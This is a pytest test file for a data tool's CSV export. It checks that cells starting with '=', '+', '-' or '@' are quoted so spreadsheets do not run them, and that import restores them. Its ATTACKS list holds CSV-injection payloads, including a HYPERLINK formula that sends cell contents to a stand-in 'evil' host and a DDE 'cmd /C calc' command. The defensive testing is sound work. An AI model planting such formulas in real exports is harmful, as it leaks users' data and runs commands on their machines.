"""Every CSV assay writes keeps spreadsheets from running a cell as a formula (OWASP, "CSV Injection")."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from assay import records as R
from assay.cli import main
from assay.io import export, import_records
from assay.io.spreadsheet import guard, unguard
from assay.store import Store
from tests.factories import every_kind

ATTACKS = ['=HYPERLINK("http://evil/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A2)",
           "\t=1+1", "\r=1+1", "'=already quoted"]


@given(st.text())
def test_guard_is_undone_exactly(s):
    assert unguard(guard(s)) == s
    assert guard(s)[:1] not in ("=", "+", "-", "@", "\t", "\r")


def _store_with_formulas(url: str) -> list[str]:
    store = Store(url)
    recs = every_kind()
    store.add(recs)
    j = next(r for r in recs if isinstance(r, R.Judgment))
    ids = []
    for k, text in enumerate(ATTACKS):
        ids.append(f"evil-{k}")
        store.add([j.model_copy(update={"id": ids[-1], "justification": text, "supersedes": None})])
    store.close()
    return ids


def _cells(path) -> list[str]:
    return [c for row in csv.reader(io.StringIO(path.read_bytes().decode("utf-8"), newline="")) for c in row]


def test_export_judgments_to_csv_quotes_formulas_and_import_gives_them_back(store_url, tmp_path, capsys):
    _store_with_formulas(store_url)
    out = tmp_path / "j.csv"
    assert main(["--db", store_url, "export", "judgments", "--out", str(out)]) == 0
    cells = _cells(out)
    assert all(c[:1] not in ("=", "+", "-", "@", "\t", "\r") for c in cells)
    for text in ATTACKS:
        assert "'" + text in cells
    # assay's own import of the file gives the texts back exactly
    other = tmp_path / "other.db"
    target = Store(f"sqlite:///{other}")
    target.add([r for r in every_kind() if not isinstance(r, (R.Judgment, R.Comparison))])
    import_records(target, out, "judgments")
    got = {j.justification for j in target.iter("judgments")}
    assert set(ATTACKS) <= got
    target.close()


def test_machine_consumers_can_turn_the_guard_off(store_url, tmp_path):
    _store_with_formulas(store_url)
    out = tmp_path / "raw.csv"
    assert main(["--db", store_url, "export", "judgments", "--out", str(out), "--no-formula-guard"]) == 0
    assert set(ATTACKS) <= set(_cells(out))


def test_campaign_export_csv_quotes_formulas(store_url, tmp_path):
    from assay import annotate as A
    from assay.server import accounts as ACC
    from tests.server.conftest import add_texts

    with Store(store_url) as s:
        ACC.create_user(s, "lena", "lena's password", role="lead")
        ACC.create_user(s, "raj", "raj's password")
        add_texts(s, "d", ["q1"], {"a@1": ["x"], "b@1": ["y"]})
    assert main(["--db", store_url, "campaign", "create", "c", "--dataset", "d", "--dimensions", "factuality",
                 "--lead", "lena", "--raters", "raj"]) == 0
    with Store(store_url) as s:
        camp = A.get_campaign(s, "c")
        asg = A.next_assignment(s, camp, "human:raj")
        A.submit(s, camp, asg, A.Answer(values={"factuality": 3}, justification=ATTACKS[0]))
    out = tmp_path / "c.csv"
    assert main(["--db", store_url, "campaign", "export", "c", "--format", "csv", "-o", str(out)]) == 0
    assert "'" + ATTACKS[0] in _cells(out) and ATTACKS[0] not in _cells(out)
    raw = tmp_path / "raw.csv"
    assert main(["--db", store_url, "campaign", "export", "c", "--format", "csv", "-o", str(raw),
                 "--no-formula-guard"]) == 0
    assert ATTACKS[0] in _cells(raw)


@pytest.mark.parametrize("fmt", ["jsonl", "parquet"])
def test_other_formats_keep_the_text_as_it_is(store, tmp_path, fmt):
    store.add(every_kind())
    j = store.list("judgments")[0]
    store.add([j.model_copy(update={"id": "evil", "justification": ATTACKS[0], "supersedes": None})])
    out = tmp_path / f"j.{fmt}"
    export(store, "judgments", out)
    if fmt == "jsonl":
        import json

        texts = [json.loads(line)["justification"] for line in out.read_text().splitlines()]
    else:
        import pandas as pd

        texts = list(pd.read_parquet(out)["justification"])
    assert ATTACKS[0] in texts
